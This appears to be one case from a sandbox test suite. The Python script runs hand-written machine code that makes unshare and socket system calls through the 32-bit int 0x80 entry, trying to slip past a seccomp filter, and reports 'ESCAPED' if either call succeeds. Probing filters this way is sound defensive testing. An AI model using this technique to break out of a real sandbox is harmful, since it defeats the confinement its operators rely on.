"""
Tries: make the same calls through the 32-bit entry of the kernel, whose numbers a filter may not
 know.

Stopped by: a system-call filter that kills programs that use a different architecture
Deserves: 0
Ends: waits_outside
"""

import ctypes
import mmap
import os

UNSHARE, SOCKET = 310, 359
if os.uname().machine == 'x86_64':
    for number, first, second in ((UNSHARE, 0x10000000, 0), (SOCKET, 40, 1)):
        if os.fork() == 0:
            page = mmap.mmap(-1, 4096, prot=7)
            page.write(
                b'\x53'  # push rbx
                + b'\xb8'
                + number.to_bytes(4, 'little')
                + b'\xbb'
                + first.to_bytes(4, 'little')
                + b'\xb9'
                + second.to_bytes(4, 'little')
                + b'\x31\xd2\xcd\x80'  # xor edx, edx; int 0x80
                + b'\x5b\x48\x98\xc3'  # pop rbx; cdqe; ret
            )
            code = ctypes.addressof(ctypes.c_char.from_buffer(page))
            if ctypes.CFUNCTYPE(ctypes.c_long)(code)() >= 0:
                print('ESCAPED', number, flush=True)
            os._exit(0)
        os.wait()
